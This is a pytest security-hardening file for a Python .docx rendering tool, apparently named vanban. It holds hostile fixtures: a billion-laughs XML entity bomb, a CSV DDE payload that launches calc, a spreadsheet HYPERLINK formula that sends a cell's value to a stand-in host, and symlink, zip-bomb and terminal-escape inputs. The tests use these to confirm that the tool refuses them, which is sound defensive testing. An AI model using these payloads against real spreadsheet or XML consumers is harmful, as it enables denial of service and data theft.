"""Issue 18, hardening second round: each broken class with two variants or more, and every
weak item this part of the issue covers. Every case here is in the catalogue: it runs under
the memory and time limits of tests/conftest.py (``catalogue`` marker), and what could block
forever on old code (a FIFO) runs in a subprocess with a timeout.
"""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import subprocess
import sys
import time
import warnings
import zipfile
from pathlib import Path
from typing import Any

import pytest

import vanban
from vanban._cli import main
from vanban._loading import validate
from vanban._rendering import Renderer
from vanban.models import KeHoach

pytestmark = pytest.mark.catalogue

ROOT = Path(__file__).resolve().parent.parent
GOOD_YAML = (Path(__file__).parent / "bad_inputs/injection/07-unicode-text.yaml").read_text("utf-8")
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@pytest.fixture
def doc(sample: dict[str, Any]) -> KeHoach:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return validate(sample)  # type: ignore[return-value]


def _plan(folder: Path, name: str = "plan.yaml", text: str = GOOD_YAML) -> Path:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def _vanban(
    *args: str, timeout: float = 60, cwd: Path | None = None
) -> subprocess.CompletedProcess:
    """``vanban ARGS`` in a child process: a regression that blocks fails, it does not hang."""
    return subprocess.run(
        [sys.executable, "-m", "vanban", *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        cwd=cwd,
        env={**os.environ, "PYTHONPATH": str(Path(vanban.__file__).parents[1])},
    )


def test_the_catalogue_runs_under_a_memory_limit() -> None:
    """The conftest fixture is in force: 4 GB cannot be allocated in a catalogue case."""
    resource = pytest.importorskip("resource")
    soft, _ = resource.getrlimit(resource.RLIMIT_AS)
    assert soft != resource.RLIM_INFINITY
    with pytest.raises(MemoryError):
        bytearray(4 * 1024**3)


# ---------------------------------------------------- 1. the writer stays in its folder


def _planted(tmp_path: Path, dangling: bool = False) -> tuple[Path, Path, Path]:
    out, outside = tmp_path / "out", tmp_path / "outside"
    out.mkdir()
    outside.mkdir()
    victim = outside / "victim.txt"
    if not dangling:
        victim.write_text("do not touch", encoding="utf-8")
    (out / "a.docx").symlink_to("../outside/victim.txt")
    return out, outside, victim


@pytest.mark.parametrize("dangling", [False, True], ids=["link-to-a-file", "dangling-link"])
def test_render_many_never_writes_through_a_link_out_of_its_folder(
    doc: KeHoach, tmp_path: Path, dangling: bool
) -> None:
    out, outside, victim = _planted(tmp_path, dangling)
    result = Renderer().render_many({"a": doc, "b": doc}, out, workers=1)
    assert [p.name for p in result] == ["b.docx"]
    (failure,) = result.failures
    assert failure.problems[0].code == "write"
    assert "liên kết tượng trưng" in str(failure) and "không ghi qua liên kết" in str(failure)
    if dangling:
        assert not victim.exists() and list(outside.iterdir()) == []
    else:
        assert victim.read_text(encoding="utf-8") == "do not touch"
    assert (out / "a.docx").is_symlink()  # the link itself is left as it was


@pytest.mark.parametrize("dangling", [False, True], ids=["link-to-a-file", "dangling-link"])
def test_batch_cli_exits_2_and_writes_nothing_outside(
    tmp_path: Path, capsys: pytest.CaptureFixture, dangling: bool
) -> None:
    out, _, victim = _planted(tmp_path, dangling)
    plans = tmp_path / "plans"
    plans.mkdir()
    data = json.dumps(vanban.loads(GOOD_YAML).model_dump(mode="json", exclude_none=True))
    a, b = _plan(plans, "a.json", data), _plan(plans, "b.json", data)
    assert main(["render", str(a), str(b), "-o", str(out)]) == 2
    err = capsys.readouterr().err
    assert "không ghi qua liên kết" in err and "Traceback" not in err
    assert (out / "b.docx").read_bytes()[:2] == b"PK"
    assert (victim.read_text("utf-8") == "do not touch") if not dangling else not victim.exists()


@pytest.mark.parametrize("dangling", [False, True], ids=["link-to-a-file", "dangling-link"])
def test_single_output_refuses_a_link_out_of_its_folder(
    tmp_path: Path, capsys: pytest.CaptureFixture, dangling: bool
) -> None:
    out, _, victim = _planted(tmp_path, dangling)
    plan = _plan(tmp_path)
    assert main(["render", str(plan), "-o", str(out / "a.docx")]) == 2
    assert "không ghi qua liên kết" in capsys.readouterr().err
    assert (victim.read_text("utf-8") == "do not touch") if not dangling else not victim.exists()
    with pytest.raises(vanban.InputError, match="liên kết tượng trưng"):
        vanban.render(vanban.loads(GOOD_YAML), out / "a.docx")


def test_a_link_into_a_subfolder_is_refused_too(doc: KeHoach, tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    real = tmp_path / "sub" / "real.docx"
    real.write_bytes(b"old")
    (tmp_path / "a.docx").symlink_to("sub/real.docx")
    with pytest.raises(vanban.InputError, match="ngoài thư mục của nó"):
        vanban.render(doc, tmp_path / "a.docx")
    assert real.read_bytes() == b"old"


# ------------------------------------------- 3. every part the reader parses is guarded


def _rendered_parts(doc: KeHoach) -> dict[str, bytes]:
    z = zipfile.ZipFile(io.BytesIO(vanban.render(doc)))
    return {i.filename: z.read(i) for i in z.infolist()}


def _zip_of(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return out.getvalue()


_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "' + b"x" * 1000 + b'">'
    + b"".join(b'<!ENTITY a%d "%s">' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 9))
    + b"]><w:document " + W.encode() + b"><w:body><w:p><w:r><w:t>&a8;</w:t></w:r></w:p>"
    b"</w:body></w:document>"
)  # fmt: skip


def _main_part_renamed(doc: KeHoach, main_part: bytes) -> bytes:
    """A .docx whose main part is word/main.bin (through _rels/.rels), holding ``main_part``;
    word/document.xml is kept, harmless, so that the package looks complete."""
    parts = _rendered_parts(doc)
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(b"word/document.xml", b"word/main.bin")
    parts["word/_rels/main.bin.rels"] = parts["word/_rels/document.xml.rels"]
    parts["word/main.bin"] = main_part
    return _zip_of(parts)


@pytest.mark.parametrize(
    ("name", "part", "expect"),
    [
        ("entity-bomb", _LAUGHS, "DOCTYPE"),
        (
            "deep-nesting",
            b"<w:document " + W.encode() + b"><w:body>" + b"<w:p>" * 5000 + b"</w:p>" * 5000
            + b"</w:body></w:document>",
            "lồng nhau quá 256 tầng",
        ),
        ("utf16-doctype", _LAUGHS.decode().replace('"1.0"?', '"1.0" encoding="UTF-16"?').encode(
            "utf-16"), "DOCTYPE"),
    ],
)  # fmt: skip
def test_a_main_part_under_another_name_passes_the_guard(
    doc: KeHoach, tmp_path: Path, name: str, part: bytes, expect: str
) -> None:
    data = _main_part_renamed(doc, part)
    with pytest.raises(vanban.ValidationError) as info:
        vanban.check(data)
    assert "phần word/main.bin" in str(info.value) and expect in str(info.value)
    with pytest.raises(vanban.ValidationError, match=r"word/main\.bin"):
        vanban.to_pdf(data)  # refused before LibreOffice is looked for


def test_check_goes_on_with_the_other_files(
    doc: KeHoach, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    bomb = tmp_path / "bomb.docx"
    bomb.write_bytes(_main_part_renamed(doc, _LAUGHS))
    good = tmp_path / "good.docx"
    good.write_bytes(vanban.render(doc))
    assert main(["check", str(bomb), str(good)]) == 2
    captured = capsys.readouterr()
    assert f"{bomb}: không đọc được" in captured.err and "phần word/main.bin" in captured.err
    assert f"{good}: ke_hoach (" in captured.out  # checked, with its evidence


def test_bad_content_in_a_part_not_named_xml_is_reported_with_its_name(doc: KeHoach) -> None:
    parts = _rendered_parts(doc)
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
        b'Target="styles.xml"', b'Target="styles.dat"'
    )
    parts["word/styles.dat"] = b"<w:styles " + W.encode() + b"><w:style></w:styles>"
    with pytest.raises(vanban.ValidationError) as info:
        vanban.check(_zip_of(parts))
    assert "phần word/styles.dat" in str(info.value)
    assert "thẻ đóng không khớp" in str(info.value)


# ----------------------------------------------------------- 5. spreadsheet formulas


@pytest.mark.parametrize(
    "task",
    ['=HYPERLINK("http://x.example/?q="&A1, "Bấm")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1"],
)
def test_csv_cells_a_spreadsheet_would_evaluate_start_with_a_quote(
    sample: dict[str, Any], task: str
) -> None:
    import csv

    sample["sections"][1]["content"][0]["task"] = task
    sample["sections"][1]["content"][0]["leads"] = "=cmd|' /C calc'!A0"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        rows = validate(sample).tasks()  # type: ignore[attr-defined]
    records = list(csv.DictReader(io.StringIO(rows.to_csv(), newline="")))
    cells = [v for r in records for v in r.values()]
    assert f"'{task.strip()}" in cells  # a leading tab is trimmed by the model already
    assert "'=cmd|' /C calc'!A0" in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert "Tuyên truyền thường xuyên." in cells  # plain text as typed


# ------------------------------------------------------------- 6. FIFOs among the inputs


@pytest.fixture
def fifo_dir(tmp_path: Path) -> Path:
    if not hasattr(os, "mkfifo"):
        pytest.skip("no FIFOs here")
    os.mkfifo(tmp_path / "pipe.yaml")
    os.mkfifo(tmp_path / "pipe.docx")
    _plan(tmp_path, "good.yaml")
    return tmp_path


@pytest.mark.parametrize(
    ("args", "expect"),
    [
        (["check", "pipe.docx", "good.yaml"], "good.yaml: hợp lệ"),
        (["check", "pipe.yaml", "good.yaml"], "good.yaml: hợp lệ"),
        (["render", "pipe.yaml"], None),
        (["tasks", "pipe.yaml"], None),
        (["render", "good.yaml", "--template", "pipe.docx"], None),
        (["render", "."], "good.docx"),
        (["render", "pipe.yaml", "good.yaml", "-o", "out"], "good.docx"),
    ],
    ids=["check-docx", "check-yaml", "render", "tasks", "template", "folder", "batch"],
)
def test_a_fifo_among_the_inputs_is_refused_not_waited_on(
    fifo_dir: Path, args: list[str], expect: str | None
) -> None:
    (fifo_dir / "out").mkdir()
    start = time.perf_counter()
    run = _vanban(*args, timeout=30, cwd=fifo_dir)
    assert time.perf_counter() - start < 30
    assert run.returncode == 2, run.stderr
    assert "FIFO (ống), không phải tệp thường" in run.stderr
    assert "Traceback" not in run.stderr
    if expect is not None:  # the other inputs are still done
        assert expect in run.stdout


def test_load_refuses_a_fifo_at_once(fifo_dir: Path) -> None:
    with pytest.raises(vanban.InputError, match="FIFO"):
        vanban.load(fifo_dir / "pipe.yaml")
    with pytest.raises(vanban.InputError, match="FIFO"):
        vanban.to_pdf(fifo_dir / "pipe.docx")


# ------------------------------------------------------------------------ weak items


def _many_rows(n: int, as_json: bool) -> str:
    """The good plan with a table of ``n`` rows (two cells each) in its first section, on
    one line (JSON, or YAML in flow style)."""
    data = vanban.loads(GOOD_YAML).model_dump(mode="json", exclude_none=True)
    marker = "ROWS_GO_HERE"
    data["sections"][0]["content"].append(
        {"columns": [{"title": "TT"}, {"title": "Việc"}], "rows": marker}
    )
    rows = "[" + ", ".join(f'[{i}, "a"]' for i in range(n)) + "]"
    if as_json:
        return json.dumps(data, ensure_ascii=False).replace(f'"{marker}"', rows)
    import yaml

    text = yaml.safe_dump(data, allow_unicode=True, default_flow_style=True, width=10**9)
    return text.replace(marker, rows)


@pytest.mark.parametrize("as_json", [False, True], ids=["yaml", "json"])
def test_a_table_of_700000_rows_is_refused_fast(tmp_path: Path, as_json: bool) -> None:
    """700,000 rows in a 9 MB file ran 300 s and took 2.27 GB; now counted while read."""
    path = tmp_path / ("plan.json" if as_json else "plan.yaml")
    text = _many_rows(700_000, as_json)
    path.write_text(text, encoding="utf-8")
    start = time.perf_counter()
    with pytest.raises(vanban.ValidationError) as info:
        vanban.load(path, max_bytes=100 * 1024 * 1024)
    assert time.perf_counter() - start < 15
    (p,) = info.value.errors
    assert p.code == "too_many_values" and "quá 100.000 giá trị" in p.message
    assert p.line is not None and p.column is not None and p.source == str(path)


def test_a_table_within_the_limit_still_loads() -> None:
    doc = vanban.loads(_many_rows(2000, True))
    assert len(doc.sections[0].content[-1].rows) == 2000  # type: ignore[union-attr]


def test_check_stops_reading_at_its_limit(tmp_path: Path) -> None:
    """A 5 GB file (sparse) is read no further than 50 MB."""
    import resource

    path = tmp_path / "huge.docx"
    with path.open("wb") as f:
        f.write(b"PK\x03\x04")
        f.truncate(5 * 1024**3)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(vanban.ValidationError, match="tệp quá lớn"):
        vanban.check(path)
    grown_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown_kb < 300 * 1024


FAKE_SOFFICE = """#!/bin/sh
# a LibreOffice that never finishes, and starts a child that would outlive it
sleep 300 &
echo $! > "{pids}"
sleep 300
"""


def test_pdf_timeout_kills_the_whole_process_group(
    tmp_path: Path, capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    pids = tmp_path / "child.pid"
    soffice = bin_dir / "soffice"
    soffice.write_text(FAKE_SOFFICE.format(pids=pids), encoding="utf-8")
    soffice.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    plan = _plan(tmp_path)
    start = time.perf_counter()
    assert main(["render", str(plan), "--pdf", "--timeout", "2"]) == 2
    assert time.perf_counter() - start < 20
    assert "không chuyển xong sang PDF sau 2 giây" in capsys.readouterr().err
    child = int(pids.read_text().strip())
    for _ in range(50):  # the kill is sent; the child is reaped by init a moment later
        try:
            os.kill(child, 0)
        except ProcessLookupError:
            break
        if (
            Path(f"/proc/{child}/stat").exists()
            and ") Z" in Path(f"/proc/{child}/stat").read_text()
        ):
            break  # a zombie: dead, waiting for its parent
        time.sleep(0.1)
    else:
        os.kill(child, 9)
        pytest.fail("LibreOffice's child outlived the timeout")


@pytest.mark.parametrize("value", ["-5", "0"])
def test_check_max_bytes_must_be_positive(value: str, capsys: pytest.CaptureFixture) -> None:
    with pytest.raises(SystemExit) as info:
        main(["check", "x.yaml", "--max-bytes", value])
    assert info.value.code == 2
    assert "cần một số nguyên dương" in capsys.readouterr().err


def test_a_user_template_cannot_make_vanban_write_a_zip_bomb(doc: KeHoach, tmp_path: Path) -> None:
    """Eight parts of 15 MB each: 120 MB once uncompressed, over the 100 MB vanban reads."""
    folder = tmp_path / "tpl"
    from vanban._templating import read_parts

    for name, data in read_parts("mot_nguoi_ky").items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    for i in range(8):
        (folder / "customXml").mkdir(exist_ok=True)
        (folder / "customXml" / f"item{i}.xml").write_text(
            "<a>{{ 'x' * 15000000 }}</a>", encoding="utf-8"
        )
    out = tmp_path / "out.docx"
    with pytest.raises(vanban.TemplateError, match=r"giải nén quá 104\.857\.600 byte"):
        vanban.Renderer(folder).render_to(doc, out)
    assert not out.exists()


def test_check_text_output_escapes_terminal_controls(
    doc: KeHoach, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    parts = _rendered_parts(doc)
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        "Rà soát".encode(), "Rà\u009b31m\u202esoát\x1b".encode().replace(b"\x1b", b"")
    )
    path = tmp_path / "a\x1b[2Jb.docx"
    path.write_bytes(_zip_of(parts))
    main(["check", str(path)])
    captured = capsys.readouterr()
    text = captured.out + captured.err
    for raw in ("\x1b", "\u009b", "\u202e"):
        assert raw not in text
    assert "\\x1b[2J" in text
    main(["check", str(path), "--json"])
    assert "\x1b" not in capsys.readouterr().out  # as before


def test_a_table_before_the_header_does_not_skip_the_check(doc: KeHoach) -> None:
    rows = "".join(
        f"<w:tr><w:tc><w:p><w:r><w:t>Mục lục, dòng {i}</w:t></w:r></w:p></w:tc></w:tr>"
        for i in range(40)
    )
    table = (
        '<w:tbl><w:tblPr><w:tblW w:w="0" w:type="auto"/></w:tblPr><w:tblGrid>'
        f'<w:gridCol w:w="9000"/></w:tblGrid>{rows}</w:tbl>'
    )
    parts = _rendered_parts(doc)
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:body>", b"<w:body>" + table.encode(), 1
    )
    report = vanban.checker.check_report(_zip_of(parts))
    assert report.in_scope and report.document_type == "ke_hoach"
    assert not any(f.rule == "SCOPE.out-of-scope" for f in report.findings)


def test_bash_completion_keeps_names_whole_and_expands_no_glob(
    tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    if shutil.which("bash") is None:
        pytest.skip("no bash")
    assert main(["completion"]) == 0
    script = tmp_path / "vanban.bash"
    script.write_text(capsys.readouterr().out, encoding="utf-8")
    work = tmp_path / "work"
    work.mkdir()
    for name in ("Kế hoạch 2026.yaml", "K*.yaml", "Kx.yaml"):
        (work / name).write_text("x", encoding="utf-8")

    def complete(*words: str) -> list[str]:
        quoted = " ".join(f"'{w}'" for w in words)
        run = subprocess.run(
            ["bash", "-c", f'source "{script}"; COMP_WORDS=({quoted}); '
             f'COMP_CWORD={len(words) - 1}; _vanban; printf "%s\\n" "${{COMPREPLY[@]}}"'],
            capture_output=True, text=True, check=True, cwd=work,
        )  # fmt: skip
        return run.stdout.splitlines()

    assert sorted(complete("vanban", "render", "K")) == ["K*.yaml", "Kx.yaml", "Kế hoạch 2026.yaml"]
    assert complete("vanban", "render", "Kế") == ["Kế hoạch 2026.yaml"]


def test_each_preview_styles_only_itself(sample: dict[str, Any]) -> None:
    from vanban.preview import to_html

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        small = validate(sample)
        sample["format"] = {"size": "13"}
        sample["title"] = "Một từ rất dài " + "x" * 400
        large = validate(sample)
    pages = [to_html(small), to_html(large)]
    ids = [re.search(r'<div class="vb" id="([\w-]+)">', p)[1] for p in pages]  # type: ignore[index]
    assert ids[0] != ids[1]
    for page, scope in zip(pages, ids, strict=True):
        css = re.search(r"<style>(.*?)</style>", page, re.S)[1]  # type: ignore[index]
        # Every selector of every rule, those inside @media/@container too.
        preludes = [p.strip() for p in re.findall(r"([^{}]+)\{", css)]
        selectors = [s.strip() for p in preludes if not p.startswith("@") for s in p.split(",")]
        assert selectors and all(s.startswith(f"#{scope}") for s in selectors), selectors[:3]
        assert "overflow-wrap: anywhere" in css


# ------------------------------------------------------------------------ properties

from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text() | st.binary(),
    lambda inner: (
        st.lists(inner, max_size=5)
        | st.tuples(inner, inner)
        | st.dictionaries(st.text(max_size=5), inner, max_size=4)
    ),
    max_leaves=30,
)


@settings(max_examples=300, deadline=None)
@given(_VALUES)
def test_the_sandbox_estimate_is_an_upper_bound(value: Any) -> None:
    """What the sandbox checks before a value is printed or joined is never less than what
    printing it makes: a value refused by its estimate is never allocated first."""
    from vanban._sandbox import _estimate

    assert _estimate(value, limit=10**9) >= len(str(value))


@settings(max_examples=200, deadline=None)
@given(st.text(min_size=1, max_size=30))
def test_no_csv_cell_starts_a_formula(task: str) -> None:
    import copy
    import csv

    from conftest import SAMPLE

    sample = copy.deepcopy(SAMPLE)
    sample["sections"][1]["content"][0]["task"] = task
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            rows = validate(sample).tasks()  # type: ignore[attr-defined]
    except vanban.ValidationError:
        return  # control characters, blank text: refused by the model
    for record in csv.DictReader(io.StringIO(rows.to_csv(), newline="")):
        for cell in record.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_namespace_holding_big_values_is_counted(doc: KeHoach, tmp_path: Path) -> None:
    """``namespace()`` is printed with its values: counted like a table."""
    from test_untrusted_templates import make_template

    body = "{% set ns = namespace(a='x' * 20000000) %}{% set items = [ns] * 150 %}{{ items|join }}"
    template = make_template(tmp_path, body)
    with pytest.raises(vanban.TemplateError, match="dài quá"):
        vanban.Renderer(template).render(doc)
